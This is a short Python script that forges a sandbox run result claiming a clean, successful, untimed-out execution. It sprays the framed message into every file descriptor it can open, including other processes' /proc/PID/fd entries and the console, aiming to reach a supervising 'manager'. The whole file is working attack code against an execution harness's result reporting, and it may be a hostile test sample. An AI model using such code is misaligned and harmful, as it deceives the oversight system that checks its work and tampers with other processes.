"""Writes a well-formed result to everything that can be written to: one of them might lead to the manager."""

import json
import os
import struct

facts = {
    "nonce": "0" * 32,
    "exit_code": 0,
    "timed_out": False,
    "cancelled": False,
    "out_of_memory": False,
    "wall_s": 0.0,
    "cpu_s": 0.0,
    "own_cpu_s": 0.0,
    "written_bytes": 0,
    "peak_memory_bytes": 0,
    "log_dropped_chars": 0,
    "log_size": 6,
    "outputs": [],
    "difference_size": None,
    "difference_problem": None,
}
text = json.dumps(facts).encode()
payload = struct.pack(">I", len(text)) + text + b"forged"
frame = struct.pack(">cQ", b"R", len(payload)) + payload
targets = list(range(1, 256))
for pid in os.listdir("/proc"):
    for number in range(64):
        try:
            targets.append(os.open(f"/proc/{pid}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            pass
for path in ("/dev/stdout", "/dev/stderr", "/dev/console", "/dev/tty", "/dev/fd/1", "/dev/fd/3"):
    try:
        targets.append(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
    except OSError:
        pass
for target in targets:
    try:
        os.write(target, frame)
    except OSError:
        pass
raise SystemExit(9)
